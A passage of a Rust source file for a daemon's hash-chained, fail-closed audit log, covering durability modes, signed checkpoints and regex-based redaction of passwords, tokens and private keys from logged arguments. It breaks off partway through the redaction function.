//! The audit log: one JSON object per line, hash-chained, written ahead of forwarding.
//!
//! - [`Audit::record`] returns once the event is in the file (`write`, the default: it survives
//!   a daemon crash; `fdatasync` runs at least every 50 ms), on stable storage (`fsync`: one
//!   `fdatasync` shared by every event written while the previous one ran — group commit), or
//!   queued (`async`). The `write(2)` happens on a caller's thread; callers that come while one
//!   writes queue without blocking their thread and it writes theirs too, a group at a time; events that
//!   gate nothing ([`Audit::record_later`]) ride along with the next write, are written by the
//!   connection worker that deferred them when it goes idle ([`Audit::idle_flusher`]), or are
//!   flushed by a background thread within [`FLUSH_DELAY`] (elsewhere and in `async` mode) or
//!   [`SYNC_INTERVAL`] (a worker that never idles).
//! - Each line ends with `"hash"`: the SHA-256 (hex) of the line's text up to that member plus
//!   the closing brace, i.e. of the event with its `seq` and `prev_hash` (the previous line's
//!   hash). Editing, deleting, reordering or inserting a line breaks the chain; rotation keeps
//!   it (the first line of a new file names the last hash of the previous one).
//! - With a node CA, an `audit.checkpoint` event signs the chain's last hash (a JWS by the CA
//!   key) within `[audit] checkpoint_interval` of a record, before a rotation and at a stop: a
//!   copy of the log verifies against `interceptor ca jwks` (`audit verify --jwks`), so a
//!   rewrite of the chain up to the last checkpoint needs the key, not only the files.
//! - A torn last line (the daemon died mid-write) is cut off at the next start and the repair is
//!   recorded as an `audit.repair` event; a complete last line that is not a valid record (an
//!   edit: no crash leaves one) is kept, and the chain continues from the record before it.
//! - If the file cannot be written (disk full, removed and not re-creatable, permission), the
//!   error is returned, counted and logged, and callers refuse to forward: fail closed.
//!
//! The schema is documented in `docs/audit.md`.

use std::{
    collections::VecDeque,
    fs::{File, Metadata, OpenOptions},
    io::{self, BufRead, BufReader, Read, Seek, SeekFrom, Write},
    os::unix::fs::OpenOptionsExt,
    path::{Path, PathBuf},
    sync::{
        Arc, Condvar, Mutex,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    time::{Duration, Instant, SystemTime},
};

use serde::Deserialize;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tracing::{error, info, warn};

use crate::bpf::lock;

/// Version of the event schema (`"v"` in every event).
pub const SCHEMA_VERSION: u64 = 1;
/// Most events recorded without a caller waiting (responses, closes, admin events) kept for
/// a later write while the log is unwritable.
pub const MAX_BACKLOG: usize = 10_000;
/// Most bytes those events may hold together (the oldest go first beyond either bound).
pub const MAX_BACKLOG_BYTES: usize = 16 << 20;
/// Most events, and bytes, waiting for a write while the log is writable (events come faster
/// than they are written: an agent sending refused requests in a loop, which wait for no
/// write); beyond, new ones are dropped, counted and recorded as `audit.lost`.
pub const MAX_DEFERRED: usize = 200_000;
pub const MAX_DEFERRED_BYTES: usize = 128 << 20;
/// The first wait before the writer leaves another file whose `fdatasync` failed, and the
/// longest (the wait doubles while syncs keep failing).
const POISON_WAIT_MIN: Duration = Duration::from_secs(1);
const POISON_WAIT_MAX: Duration = Duration::from_secs(300);
/// While the log is unwritable, how often a write is tried at most: each try seals the whole
/// backlog again (hashing up to [`MAX_BACKLOG_BYTES`]), and requests (each of which would try)
/// keep coming; those in between are refused at once.
pub const UNHEALTHY_RETRY: Duration = Duration::from_millis(200);

/// `prev_hash` of the very first event.
pub const GENESIS: &str = "0000000000000000000000000000000000000000000000000000000000000000";
/// Default `[audit] path`.
pub const DEFAULT_PATH: &str = "/var/log/interceptor/audit.jsonl";
/// In `write` mode, the longest an event waits for `fdatasync`; also how soon the background
/// thread writes events deferred on a worker that stays busy.
pub const SYNC_INTERVAL: Duration = Duration::from_millis(50);

/// When an event counts as recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, Default)]
#[serde(rename_all = "lowercase")]
pub enum Durability {
    /// In the file (survives a daemon crash); `fdatasync` at least every 50 ms.
    #[default]
    Write,
    /// On stable storage (survives power loss); concurrent events share one `fdatasync`.
    Fsync,
    /// Queued; the tail may be lost on a crash.
    Async,
}

/// `[audit]`.
#[derive(Debug, Clone, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields, default)]
pub struct RawAudit {
    /// The log file (rotated files sit beside it as `<path>.<UTC time>`).
    pub path: PathBuf,
    /// `write` (default), `fsync` or `async`.
    pub durability: Durability,
    /// Rotate when the file would grow past this many bytes.
    pub max_file_bytes: u64,
    /// The most files the log keeps, the live one included: at a rotation, the oldest rotated
    /// files (`<path>.<UTC time>`, the daemon's own) beyond it are deleted and an
    /// `audit.pruned` event in the new file names them and where the chain now starts. 0 (the
    /// default): keep them all.
    pub max_files: usize,
    /// Argument keys containing any of these (case-insensitive) are written as `"[REDACTED]"`.
    pub redact_keys: Vec<String>,
    /// Arguments longer than this (serialised, after redaction) are shortened, within a
    /// marker with their length and SHA-256.
    pub max_argument_bytes: usize,
    /// Whether secrets are also recognised by their shape inside strings (`Bearer …`, JWTs,
    /// URL passwords, `password=…`, known token prefixes, private keys).
    pub redact_values: bool,
    /// With a node CA: at most this long after a record, an `audit.checkpoint` event signs
    /// the chain up to it ("1s"; from 100 ms to 1 h).
    pub checkpoint_interval: String,
}

/// Default `[audit] checkpoint_interval`.
pub const DEFAULT_CHECKPOINT_INTERVAL: &str = "1s";

impl RawAudit {
    /// `checkpoint_interval` as a duration, or why it is not one that works.
    pub fn checkpoint_every(&self) -> Result<Duration, String> {
        let s = &self.checkpoint_interval;
        let d = humantime::parse_duration(s).map_err(|e| {
            format!("{s:?} is not a duration ({e}); write e.g. \"1s\" or \"500ms\"")
        })?;
        if !(Duration::from_millis(100)..=Duration::from_secs(3600)).contains(&d) {
            return Err(format!(
                "{s:?} is out of range: from 100ms (each checkpoint is a signature and a line) \
                 to 1h (the records after the last checkpoint are not signed)"
            ));
        }
        Ok(d)
    }
}

impl Default for RawAudit {
    fn default() -> Self {
        Self {
            path: PathBuf::from(DEFAULT_PATH),
            durability: Durability::Write,
            max_file_bytes: 100 << 20,
            max_files: 0,
            redact_keys: [
                "password",
                "passwd",
                "passphrase",
                "secret",
                "token",
                "authorization",
                "api_key",
                "access_key",
                "private_key",
                "credential",
                "cookie",
            ]
            .map(String::from)
            .to_vec(),
            max_argument_bytes: 4096,
            redact_values: true,
            checkpoint_interval: DEFAULT_CHECKPOINT_INTERVAL.into(),
        }
    }
}

/// Audit errors.
#[derive(Debug, Clone, thiserror::Error)]
pub enum Error {
    /// The log could not be opened or prepared at start.
    #[error("audit log {path}: {message}")]
    Open { path: PathBuf, message: String },
    /// An event could not be written; requests are refused until writing works again.
    #[error("audit log unavailable ({0}); requests are refused until it is writable again")]
    Unavailable(String),
    /// `fsync` mode: the events were written but could not be made durable.
    #[error(
        "audit log not durable ({0}); the events are in the file, requests are refused until \
         it syncs again"
    )]
    NotDurable(String),
}

/// One event, ready to be chained: its members as JSON text without the enclosing braces
/// (`"event":"mcp.request","v":1,"ts":"…",…`). The writer puts `seq` and `prev_hash` in front
/// and the `hash` member at the end. Built member by member straight into text: the hot path
/// never goes through a JSON map.
#[derive(Debug, Clone)]
pub struct Event(Vec<u8>);

impl Event {
    /// An event named `name`, stamped now.
    pub fn new(name: &str) -> Self {
        Self::stamped(name, &timestamp(SystemTime::now()))
    }

    fn stamped(name: &str, ts: &str) -> Self {
        let mut b = Vec::with_capacity(512);
        b.extend_from_slice(b"\"event\":");
        json_into(&mut b, name);
        b.extend_from_slice(b",\"v\":");
        json_into(&mut b, &SCHEMA_VERSION);
        b.extend_from_slice(b",\"ts\":");
        json_into(&mut b, ts);
        Self(b)
    }

    /// Adds member `key` with `value` serialised.
    pub fn field(mut self, key: &str, value: &(impl serde::Serialize + ?Sized)) -> Self {
        self.key(key);
        json_into(&mut self.0, value);
        self
    }

    /// Adds member `key` whose value is JSON text this process produced (an [`Identity`] or
    /// redacted arguments), copied as is.
    ///
    /// [`Identity`]: crate::identity::Identity
    pub fn raw(mut self, key: &str, json: &str) -> Self {
        self.key(key);
        self.0.extend_from_slice(json.as_bytes());
        self
    }

    fn key(&mut self, key: &str) {
        self.0.push(b',');
        json_into(&mut self.0, key);
        self.0.push(b':');
    }
}

/// Appends `value` as JSON (serde_json cannot fail on the types used here: strings, numbers,
/// `Value`s, string-keyed structs).
fn json_into(out: &mut Vec<u8>, value: &(impl serde::Serialize + ?Sized)) {
    if serde_json::to_writer(&mut *out, value).is_err() {
        out.extend_from_slice(b"null");
    }
}

/// An event named `name` with the members of `fields` (a JSON object; its `ts`, if any, is
/// used as the event time). For events off the hot path.
pub fn event(name: &str, fields: Value) -> Event {
    let Value::Object(m) = fields else {
        return Event::new(name);
    };
    let mut e = match m.get("ts").and_then(Value::as_str) {
        Some(ts) => Event::stamped(name, ts),
        None => Event::new(name),
    };
    for (k, v) in &m {
        if !matches!(
            k.as_str(),
            "event" | "v" | "ts" | "seq" | "prev_hash" | "hash"
        ) {
            e = e.field(k, v);
        }
    }
    e
}

/// Argument redaction: values of secret-looking keys at any depth become `"[REDACTED]"`, as do
/// secrets recognised by their shape inside any string (see `VALUE_RULES`); arguments longer
/// than `max_argument_bytes` (after redaction) are shortened so that every key stays visible
/// as long as possible (see [`Redactor::redact`]).
#[derive(Debug, Clone)]
pub struct Redactor {
    /// The words of `redact_keys` in [`key_form`] (a key containing one is redacted).
    keys: Vec<String>,
    /// Its globs and `^regex$` entries (see [`redact_key_pattern`]): matched against the
    /// whole key as written, ignoring ASCII case.
    patterns: Vec<crate::policy::Pattern>,
    max_bytes: usize,
    /// Whether strings are scanned for secrets by their shape (`redact_values`).
    values: bool,
}

/// A key as redaction compares it: lower case, without `_`, `-`, `.` and spaces, so that
/// `api_key` also catches `apiKey`, `api-key` and `X-Api-Key`.
pub(crate) fn key_form(key: &str) -> String {
    key.chars()
        .filter(|c| !matches!(c, '_' | '-' | '.' | ' '))
        .flat_map(char::to_lowercase)
        .collect()
}

/// Secrets recognised by their shape wherever they appear in a string (a shell command, a
/// URL, a header line, an environment dump), each with what replaces it. The secret part
/// only: the words around it stay readable. What runs must never be taken for a secret and
/// hidden from the record: a value is read up to a space, a quote or shell syntax (`$ ( ) | ;
/// & < >`, backtick, braces), starts right after `=` (after `:` or a scheme, spaces or tabs,
/// never a line break: `TOKEN=\n/tmp/x` runs `/tmp/x`) and not with a path (`/`, `.`, `~`,
/// `!`).
const VALUE_RULES: [(&str, &str); 13] = [
    // The body of a private key, between its markers (PEM, OpenSSH, PGP armour, with the
    // header lines of an encrypted PEM or an armour); replaced only when it decodes as such
    // a key (see [`pem_body`]), so text between two marker lines that is not a key
    // (commands) stays.
    (
        r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)((?:[A-Za-z0-9+/=\s\\:,.]|-[A-Za-z0-9])+?)(-----END [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)",
        "",
    ),
    // Credentials in a URL: scheme://user:password@host, up to the last `@` of the
    // authority (a password may hold `&`, `(`, `)`, `$`, even `@`), but never `;`, `'`, `,`,
    // a command substitution (`$(`, `${`, a backtick) or a pipe, which stay on record (and
    // `host:8080','owner':'bob@…` is no password).
    (
        r#"(://[^/?#\s:@]*):(?:[^/?#\s$|;<>`{}"',]|\$[^({/?#\s;|<>`"',])+@"#,
        "$1:[REDACTED]@",
    ),
    // An `Authorization` header value, whatever its scheme (Bearer, Basic, Token, …).
    (
        r#"(?i)((?:proxy-)?authorization['"]?[ \t]*(?::[ \t]*|=)['"]?(?:[A-Za-z]+[ \t]+)?)[A-Za-z0-9_+-][A-Za-z0-9._~+/=-]{7,}"#,
        "${1}[REDACTED]",
    ),
    // `Bearer <token>` elsewhere (any case, and long: prose has "bearer tokens").
    (
        r"(?-u:\b)((?i:bearer)[ \t]+)[A-Za-z0-9_+-][A-Za-z0-9._~+/=-]{15,}",
        "${1}[REDACTED]",
    ),
    // A JSON Web Token.
    (
        r"(?-u:\b)eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]*",
        "[REDACTED]",
    ),
    // `name=value` or `name: value` where the name says secret (`DB_PASSWORD=`, `?token=`,
    // `api-key: `, `'password': '…'`), matched from that word on, which may go on as `_ID`
    // or `Value` but not as `tokens`, `tokenizer` or `.helper` (git runs
    // `credential.helper=!…`); values of 6 or more.
    // (Every rule starts with literal text, which the search looks for first.)
    (
        r#"(?i)((?:token|secret|passw(?:or)?d|passphrase|api[_-]?key|access[_-]?key|private[_-]?key|credential|cookie)(?:[_-][A-Za-z0-9_-]*|(?-i:[A-Z0-9])[A-Za-z0-9_-]*)?['"]?[ \t]*(?::[ \t]*|=)['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{5,}"#,
        "${1}[REDACTED]",
    ),
    // Command-line flags: `--password VALUE`, `--token=VALUE`.
    (
        r#"(--(?:password|passwd|passphrase|pass|token|secret|client-secret|client_secret|secret-key|api-key|apikey|access-token|auth-token)(?:[ \t]+|=)['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,}"#,
        "${1}[REDACTED]",
    ),
    // `-u user:password` / `--user user:password` (curl, wget).
    (
        r#"((?:-u|--user)[ \t]+['"]?[^\s:'"]+:)[^\s&"',;{}$()|<>`@]+"#,
        "${1}[REDACTED]",
    ),
    // A `.netrc` entry, on one line or several: `machine HOST login USER password SECRET`
    // (or `default …`, `password` before `login`, an `account` between, quoted or not; a
    // quoted one whole, spaces included, but never one holding `$` or a backtick).
    (
        r#"((?-u:\b)(?:login[ \t]+[^\s'"]+|machine[ \t]+[^\s'"]+(?:[ \t]+login[ \t]+[^\s'"]+)?|default(?:[ \t]+login[ \t]+[^\s'"]+)?)(?:\s+account[ \t]+[^\s'"]+)?\s+password[ \t]+)(?:"[^"\n$`]{3,}"|'[^'\n$`]{3,}'|[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{3,})"#,
        "${1}[REDACTED]",
    ),
    // MySQL's and MariaDB's clients take the password glued to `-p` (`-pSECRET`, `-p'SECRET'`;
    // a lone `-p` asks for it, and `-P` is the port), looked for within the one command (not
    // past `$(`, a backtick or braces), and `mysqladmin … password NEWPASS`. Only where the
    // client is the command run (see [`at_command`]): `sudo -u mysql perl -pi …` or `find
    // /var/lib/mysql -perm …` are other commands' options.
    (
        r#"((?-u:\b)(?:mysql(?:dump|admin|import|check|show|slap|pump|sh)?|mariadb(?:-dump|-admin|-import|-check|-show|-slap)?)[ \t](?:[^\n|;&$`(){}]*?[ \t])?-p['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
        "${1}[REDACTED]",
    ),
    (
        r#"((?-u:\b)mysqladmin[ \t][^\n|;&$`(){}]*?[ \t]password[ \t]+['"]?)[^\s&"',;{}$()|<>`/.~!-][^\s&"',;{}$()|<>`]{2,}"#,
        "${1}[REDACTED]",
    ),
    // `sshpass -p SECRET`: only sshpass's own options before it (`-v`, `-P PROMPT`, grouped
    // as `-vp`), so that a `-p` of the command it runs (`scp -p`, `ssh -p 22`) is not taken
    // for one.
    (
        r#"((?-u:\b)sshpass(?:[ \t]+(?:-v+|-P[ \t]*(?:"[^"\n]*"|'[^'\n]*'|[^\s-]\S*)))*[ \t]+-v*p[ \t]*['"]?)[^\s&"',;{}$()|<>`/.~!][^\s&"',;{}$()|<>`]{2,}"#,
        "${1}[REDACTED]",
    ),
    // Tokens known by their prefix (GitHub, OpenAI, Stripe, Slack, AWS access key ids,
    // GitLab, Google API keys, npm, Hugging Face).
    (
        r"(?-u:\b)(?:gh[pousr]_[A-Za-z0-9]{30,}|github_pat_[A-Za-z0-9_]{30,}|sk-[A-Za-z0-9_-]{20,}|[sr]k_(?:live|test)_[A-Za-z0-9]{16,}|xox[abposr]-[A-Za-z0-9-]{10,}|(?:AKIA|ASIA)[0-9A-Z]{16}|glpat-[A-Za-z0-9_-]{20,}|AIza[0-9A-Za-z_-]{35}|npm_[A-Za-z0-9]{36}|hf_[A-Za-z0-9]{30,})",
        "[REDACTED]",
    ),
];

/// The rule of [`VALUE_RULES`] for PEM private keys (replaced by [`pem_body`]).
const PEM_RULE: usize = 0;
/// The rules of [`VALUE_RULES`] that apply only where their program is the command run
/// ([`at_command`]): MySQL's clients.
const COMMAND_RULES: [usize; 2] = [9, 10];

/// Whether the program named at `start` of `text` is the command run there: its word (a path
/// to it allowed) begins the text or follows a shell separator (`; & | ( { \n`, a backtick,
/// `$(`) or a command that runs another (`sudo`, `exec`, `env`, `nice`, `time`, `nohup`,
/// `command`, `then`, `do`, `else`), not another program's arguments.
fn at_command(text: &str, start: usize) -> bool {
    let before = &text[..start];
    // The word's own start: a path to the program (`/usr/bin/mysql`) is the program.
    let word = before
        .rfind(|c: char| c.is_whitespace() || "`;&|({".contains(c))
        .map_or(0, |i| {
            i + before[i..].chars().next().map_or(1, char::len_utf8)
        });
    if !before[word..].is_empty() && !before[word..].ends_with('/') {
        return false;
    }
    let rest = before[..word].trim_end_matches([' ', '\t']);
    if rest.is_empty() || rest.ends_with([';', '&', '|', '(', '{', '\n', '`']) {
        return true;
    }
    let last = rest.rsplit([' ', '\t', '\n']).next().unwrap_or("");
    matches!(
        last,
        "sudo" | "exec" | "env" | "nice" | "time" | "nohup" | "command" | "then" | "do" | "else"
    )
}

/// A private key block redacted (its body) if it is a key (its line breaks possibly written
/// `\n`, inside JSON text): an OpenSSH key (`openssh-key-v1`), a PGP armour or an encrypted
/// PEM whose body decodes, or a PEM block of one DER structure.
fn pem_body(caps: &regex::Captures<'_>) -> String {
    use x509_parser::der_parser;
    let body = caps[2].replace("\\n", "\n").replace("\\r", "");
    let label = &caps[1];
    let key = if label.contains("OPENSSH") {
        armoured_body(&body).is_some_and(|b| b.starts_with(b"openssh-key-v1\0"))
    } else if label.contains("PGP") {
        // A secret-key packet first (old or new packet format).
        armoured_body(&body).is_some_and(|b| b.len() >= 32 && matches!(b[0], 0x94..=0x97 | 0xC5))
    } else if body.contains("Proc-Type:") {
        armoured_body(&body).is_some_and(|b| b.len() >= 64)
    } else if body.contains(':') {
        // A plain PEM key has no header lines.
        false
    } else {
        armoured_body(&body).is_some_and(|der| {
            der.len() >= 64
                && der_parser::parse_der(&der).is_ok_and(|(rest, der)| {
                    rest.is_empty() && der.header.tag() == der_parser::asn1_rs::Tag::Sequence
                })
        })
    };
    if key {
        format!("{}[REDACTED]{}", &caps[1], &caps[3])
    } else {
        caps[0].to_owned()
    }
}

/// The decoded body of an armoured block (what is between its marker lines): a leading run
/// of header lines (`Name: value`, then a blank line) and a PGP checksum line (`=XXXX`) left
/// out; `None` unless all the rest, its whitespace removed, is base64 (a line of anything
/// else — a command — is no key's).
fn armoured_body(body: &str) -> Option<Vec<u8>> {
    use base64::Engine as _;
    let header = |l: &&str| {
        l.split_once(": ").is_some_and(|(name, _)| {
            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
        })
    };
    let mut lines = body.lines().map(str::trim).peekable();
    while lines.next_if(|l| l.is_empty()).is_some() {}
    let mut headers = false;
    while lines.next_if(header).is_some() {
        headers = true;
    }
    if headers && lines.next_if(|l| l.is_empty()).is_none() {
        return None;
    }
    let text: String = lines
        .filter(|l| !(l.starts_with('=') && l.len() == 5))
        .flat_map(|l| l.chars().filter(|c| !c.is_whitespace()))
        .collect();
    base64::engine::general_purpose::STANDARD.decode(text).ok()
}

/// [`VALUE_RULES`], compiled once: all of them as one expression, to tell quickly whether a
/// string holds any (most hold none), and each rule to replace what it matches.
struct ValueRules {
    any: regex::Regex,
    each: Vec<(regex::Regex, &'static str)>,
}

fn value_rules() -> &'static ValueRules {
    static RULES: std::sync::OnceLock<ValueRules> = std::sync::OnceLock::new();
    RULES.get_or_init(|| {
        let any = VALUE_RULES.map(|(p, _)| format!("(?:{p})")).join("|");
        ValueRules {
            any: regex::Regex::new(&any).expect("the value rules are valid regexes"),
            each: VALUE_RULES
                .iter()
                .map(|(p, with)| (regex::Regex::new(p).expect("valid regex"), *with))
                .collect(),
        }
    })
}

/// Shortest string that can hold a secret the value rules recognise.
const SHORTEST_SECRET: usize = 8;

/// Members naming the other member of a `{"name": "Authorization", "value": "…"}` pair.
const PAIR_NAMES: [&str; 4] = ["name", "key", "header", "field"];
/// Members holding the value of such a pair.
const PAIR_VALUES: [&str; 2] = ["value", "values"];

/// Lengths long strings (and keys) are cut to, in turn, when arguments are over
/// `max_argument_bytes`; arrays keep a quarter as many items.
const STRING_CUTS: [usize; 3] = [256, 64, 16];

/// How deep JSON text inside strings is looked into (JSON in a string in a string…).
const MAX_EMBEDDED: u8 = 2;
/// Longest string looked into as JSON, and the most values read from it: what an agent
/// sends is bounded once parsed (`proxy.max_json_values`), JSON text inside it too.
const MAX_EMBEDDED_BYTES: usize = 64 << 10;
const MAX_EMBEDDED_VALUES: usize = 10_000;
/// Containers this deep (the top level is 0) may be replaced by a count of what they hold.
const COUNTED_DEPTHS: std::ops::RangeInclusive<usize> = 1..=2;

/// How a rendering shortens what it writes.
#[derive(Clone, Copy)]
struct Cut {
    /// Strings and keys longer than this are cut.
    bytes: usize,
    /// Arrays longer than this keep their first items.
    items: usize,
    /// Objects and arrays one or two levels down whose rendering is longer than this are
    /// replaced by a count of what they hold (the large ones go, small ones stay).
    count_over: usize,
}

impl Cut {
    const NONE: Cut = Cut {
        bytes: usize::MAX,
        items: usize::MAX,
        count_over: usize::MAX,
    };

    fn to(bytes: usize) -> Cut {
        Cut {
            bytes,
            items: bytes / 4,
            count_over: usize::MAX,
        }
    }
}

/// `text` cut to at most `bytes` (at a character boundary) with what was left out; `what`
/// tells cut keys apart (two keys of one object may share their first bytes).
fn cut_text(text: &str, bytes: usize, what: Option<usize>) -> String {
    let end = text.floor_char_boundary(bytes);
    match what {
        Some(i) => format!("{}…[+{} bytes, key {i}]", &text[..end], text.len() - end),
        None => format!("{}…[+{} bytes]", &text[..end], text.len() - end),
    }
}

/// Strings at least this long are redacted once per [`Redactor::finish`], however many times
/// it renders them (up to eight times for arguments over the budget).
const MEMO_MIN: usize = 1024;

/// The redacted text of the long strings of one value, by the address and length of the
/// string (the value is borrowed, unchanged, for as long as the memo lives).
type Memo = std::cell::RefCell<std::collections::HashMap<(usize, usize), String>>;

/// One rendering of a value: its redacted JSON text, shortened as `cut` says.
struct Render<'r> {
    r: &'r Redactor,
    /// Long strings already redacted by an earlier rendering of the same value.
    memo: Option<&'r Memo>,
    out: Vec<u8>,
    cut: Cut,
    /// Whether anything was redacted (JSON inside a string is replaced only then).
    redacted: bool,
    embedded: u8,
    depth: usize,
    /// Inside an object or array under a secret key: its keys and shape stay visible, every
    /// string and number in it is redacted.
    hiding: bool,
}

impl Render<'_> {
    fn object(&mut self, m: &serde_json::Map<String, Value>) {
        // A pair naming a secret header or variable: its value is the secret.
        let pair_secret = m.iter().any(|(k, v)| {
            PAIR_NAMES.iter().any(|n| n.eq_ignore_ascii_case(k))
                && v.as_str().is_some_and(|name| self.r.secret(name))
        });
        self.depth += 1;
        self.out.push(b'{');
        for (i, (k, v)) in m.iter().enumerate() {
            if i > 0 {
                self.out.push(b',');
            }
            let redacted_key = self.r.redact_text(k);
            let secret_shaped = matches!(redacted_key, std::borrow::Cow::Owned(_));
            if self.hiding && (!identifier(k) || secret_shaped) {
                // Under a secret key, a key may itself be the secret (a token as a map key).
                self.redacted = true;
                json_into(&mut self.out, &format!("[REDACTED key {i}]"));
            } else if secret_shaped {
                // A key holding a secret of a known shape (a URL with its password).
                self.redacted = true;
                // Numbered: two keys may be redacted to the same text.
                let shown = if redacted_key.len() > self.cut.bytes {
                    cut_text(&redacted_key, self.cut.bytes, Some(i))
                } else {
                    format!("{redacted_key} [key {i}]")
                };
                json_into(&mut self.out, &shown);
            } else if k.len() > self.cut.bytes {
                json_into(&mut self.out, &cut_text(k, self.cut.bytes, Some(i)));
            } else {
                json_into(&mut self.out, k);
            }
            self.out.push(b':');
            // (A key an operator's pattern names is redacted whatever it holds.)
            let secret_key = self.r.named_by_pattern(k) || self.r.secret(k) && !counts_tokens(k, v);
            if secret_key && matches!(v, Value::Object(_) | Value::Array(_)) {
                // Its keys and shape stay on record (what a credential file configures, say);
                // its strings and numbers do not.
                self.redacted = true;
                let was = std::mem::replace(&mut self.hiding, true);
                self.value(v);
                self.hiding = was;
            } else if secret_key
                || (pair_secret && PAIR_VALUES.iter().any(|n| n.eq_ignore_ascii_case(k)))
            {
                self.redacted = true;
                self.out.extend_from_slice(b"\"[REDACTED]\"");
            } else {
                self.value(v);
            }
        }
        self.out.push(b'}');
        self.depth -= 1;
    }

    fn array(&mut self, a: &[Value]) {
        // A list of `[name, value]` pairs (headers, variables): the value of one whose name
        // is a redacted key is the secret (a lone two-item array is not taken for a pair:
        // `["secret", "list"]` is a command's arguments).
        let pairs = a.iter().all(|v| {
            v.as_array()
                .is_some_and(|p| p.len() == 2 && p[0].is_string() && p[1].is_string())
        });
        self.depth += 1;
        self.out.push(b'[');
        for (i, v) in a.iter().take(self.cut.items).enumerate() {
            if i > 0 {
                self.out.push(b',');
            }
            let secret_pair = pairs
                .then(|| v.as_array().and_then(|p| p[0].as_str()))
                .flatten()
                .filter(|name| self.r.secret(name));
            if let Some(name) = secret_pair {
                self.redacted = true;
                self.out.push(b'[');
                json_into(&mut self.out, name);
                self.out.extend_from_slice(b",\"[REDACTED]\"]");
            } else {
                self.value(v);
            }
        }
        if a.len() > self.cut.items {
            if self.cut.items > 0 {
                self.out.push(b',');
            }
            json_into(
                &mut self.out,
                &format!("…[+{} items]", a.len() - self.cut.items),
            );
        }
        self.out.push(b']');
        self.depth -= 1;
    }

    fn value(&mut self, v: &Value) {
        let container = matches!(v, Value::Object(_) | Value::Array(_));
        if container && self.cut.count_over != usize::MAX && COUNTED_DEPTHS.contains(&self.depth) {
            // Rendered aside: kept if small, else counted.
            let mut aside = Render {
                r: self.r,
                memo: self.memo,
                out: Vec::new(),
                cut: self.cut,
                redacted: false,
                embedded: self.embedded,
                depth: self.depth,
                hiding: self.hiding,
            };
            match v {
                Value::Object(m) => aside.object(m),
                Value::Array(a) => aside.array(a),
                _ => {}
            }
            self.redacted |= aside.redacted;
            if aside.out.len() <= self.cut.count_over {
                self.out.extend_from_slice(&aside.out);
                return;
            }
            let count = match v {
                Value::Object(m) => format!("{{…{} members}}", m.len()),
                Value::Array(a) => format!("[…{} items]", a.len()),
                _ => String::new(),
            };
            json_into(&mut self.out, &count);
            return;
        }
        match v {
            Value::Object(m) => self.object(m),
            Value::Array(a) => self.array(a),
            Value::String(_) | Value::Number(_) if self.hiding => {
                self.redacted = true;
                self.out.extend_from_slice(b"\"[REDACTED]\"");
            }
            Value::String(s) => self.string(s),
            other => json_into(&mut self.out, other),
        }
    }

    fn string(&mut self, s: &str) {
        let key = (s.as_ptr() as usize, s.len());
        let memo = self.memo.filter(|_| s.len() >= MEMO_MIN);
        if let Some(memo) = memo
            && let Some((redacted, text)) = memo.borrow().get(&key).map(|t| (t != s, t))
        {
            self.redacted |= redacted;
            self.put_string(text);
            return;
        }
        let text = self.redact_string(s);
        if let Some(memo) = memo {
            memo.borrow_mut().insert(key, text.clone().into_owned());
        }
        self.put_string(&text);
    }

    /// `s` as written, cut as this rendering says.
    fn put_string(&mut self, text: &str) {
        if text.len() > self.cut.bytes {
            json_into(&mut self.out, &cut_text(text, self.cut.bytes, None));
        } else {
            json_into(&mut self.out, text);
        }
    }

    /// `s` with its secrets redacted (JSON inside it as JSON, then by shape).
    fn redact_string<'s>(&mut self, s: &'s str) -> std::borrow::Cow<'s, str> {
        let mut text = std::borrow::Cow::Borrowed(s);
        // JSON inside a string (a request body, a config file) is redacted as JSON.
        let trimmed = s.trim();
        if self.embedded < MAX_EMBEDDED
            && trimmed.len() <= MAX_EMBEDDED_BYTES
            && ((trimmed.starts_with('{') && trimmed.ends_with('}'))
                || (trimmed.starts_with('[') && trimmed.ends_with(']')))
            && let Some(inner) = crate::mcp::jsonrpc::parse_value(trimmed, MAX_EMBEDDED_VALUES)
        {
            let mut nested = Render {
                r: self.r,
                memo: None,
                out: Vec::with_capacity(s.len()),
                cut: Cut::NONE,
                redacted: false,
                embedded: self.embedded + 1,
                depth: 0,
                hiding: false,
            };
            nested.value(&inner);
            if nested.redacted
                && let Ok(t) = String::from_utf8(nested.out)
            {
                self.redacted = true;
                text = std::borrow::Cow::Owned(t);
            }
        }
        if let std::borrow::Cow::Owned(t) = self.r.redact_text(&text) {
            self.redacted = true;
            text = std::borrow::Cow::Owned(t);
        }
        text
    }
}

/// What is rendered: a value, or an object's members.
#[derive(Clone, Copy)]
enum Target<'a> {
    Value(&'a Value),
    Object(&'a serde_json::Map<String, Value>),
}

impl Redactor {
    pub fn new(cfg: &RawAudit) -> Self {
        Self {
            keys: cfg
                .redact_keys
                .iter()
                .filter(|k| redact_key_pattern(k).is_none())
                .map(|k| key_form(k))
                .collect(),
            // Checked when the config was loaded.
            patterns: cfg
                .redact_keys
                .iter()
                .filter_map(|k| redact_key_pattern(k)?.ok())
                .collect(),
            // 0: no limit (every byte the server receives is on record).
            max_bytes: match cfg.max_argument_bytes {
                0 => usize::MAX,
                n => n,
            },
            values: cfg.redact_values,
        }
    }

    /// `arguments`, redacted, as JSON text.
    pub fn redact(&self, arguments: &Value) -> String {
        self.finish(Target::Value(arguments))
    }

    /// An object of members (e.g. a request's `params`), redacted, as JSON text.
    pub fn redact_object(&self, members: &serde_json::Map<String, Value>) -> String {
        self.finish(Target::Object(members))
    }

    /// Secrets recognised by their shape in `text` replaced (when `redact_values` is on);
    /// borrowed when there are none.
    pub fn redact_text<'t>(&self, text: &'t str) -> std::borrow::Cow<'t, str> {
        if !self.values || text.len() < SHORTEST_SECRET {
            return std::borrow::Cow::Borrowed(text);
        }
        let rules = value_rules();
        // Most strings hold no secret: one pass of the set's automaton says so.
